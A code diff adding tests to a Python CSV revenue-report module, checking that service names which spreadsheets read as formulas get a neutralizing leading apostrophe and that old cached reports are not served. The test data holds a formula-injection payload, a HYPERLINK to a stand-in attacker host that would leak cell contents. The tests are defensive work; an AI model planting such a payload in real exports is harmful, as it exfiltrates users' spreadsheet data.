@@ -136,6 +136,50 @@ async def test_names_are_quoted_sorted_by_code_point_and_unnamed_services_get_an
     ]
 
 
+FORMULA_NAMES = {
+    1: '=HYPERLINK("http://evil.example/?leak="&A1;"click")',
+    2: "+1",
+    3: "-2",
+    4: "@SUM(1)",
+    5: "\tx",
+    6: "\rx",
+    7: 'Ads; "Pro"',
+    8: "a=b",
+}
+
+
+async def test_names_that_spreadsheets_read_as_formulas_are_neutralized(api: Api, ledger: Ledger) -> None:
+    """A caller's service name starting with = + - @ TAB CR gets a leading ' (OWASP "CSV Injection");
+    quoting stays RFC 4180 and the service's own totals stay numbers."""
+    for service_id, name in FORMULA_NAMES.items():
+        await ledger.name(service_id, name)
+        await ledger.charge(service_id, 123_450 + service_id, NOV)
+    text = await report_csv(api, "2025-11")
+    assert text.startswith("service;total\r\n'\tx;1234.55\r\n\"'\rx\";1234.56\r\n'+1;1234.52\r\n")
+    assert '\r\n"\'=HYPERLINK(""http://evil.example/?leak=""&A1;""click"")";1234.51\r\n' in text
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    assert rows == [
+        ["service", "total"],
+        ["'\tx", "1234.55"],
+        ["'\rx", "1234.56"],
+        ["'+1", "1234.52"],
+        ["'-2", "1234.53"],
+        ['\'=HYPERLINK("http://evil.example/?leak="&A1;"click")', "1234.51"],
+        ["'@SUM(1)", "1234.54"],
+        ['Ads; "Pro"', "1234.57"],
+        ["a=b", "1234.58"],
+    ]
+
+
+async def test_a_report_cached_before_neutralizing_is_not_served(api: Api, ctx: Context, ledger: Ledger) -> None:
+    await ledger.name(1, "=1+1")
+    await ledger.charge(1, 100, NOV)
+    old_file = ctx.reports.reports_dir / "revenue-2025-11-Europe_Moscow.csv"  # an older build's cache
+    old_file.parent.mkdir(parents=True, exist_ok=True)
+    old_file.write_bytes(b"service;total\r\n=1+1;1.00\r\n")
+    assert await report_csv(api, "2025-11") == "service;total\r\n'=1+1;1.00\r\n"
+
+
 async def test_totals_stay_exact_beyond_int64(ctx: Context, ledger: Ledger) -> None:
     await ledger.charge(1, 2**62, NOV)
     await ledger.charge(1, 2**62, NOV)
@@ -254,7 +298,7 @@ async def test_link_works_on_another_instance(api: Api, ctx: Context, ledger: Le
         answer = await other.get(path, token=None)
         assert answer.status == 200
         assert answer.body == "service;total\r\nПродвижение;42.00\r\n".encode()
-        assert [p.name for p in other_dir.iterdir()] == ["revenue-2025-11-Europe_Moscow.csv"]
+        assert [p.name for p in other_dir.iterdir()] == ["revenue-2025-11-Europe_Moscow-v2.csv"]
         assert_invalid_signature(await other.get(path.replace("2025-11", "2025-12"), token=None))
 
 
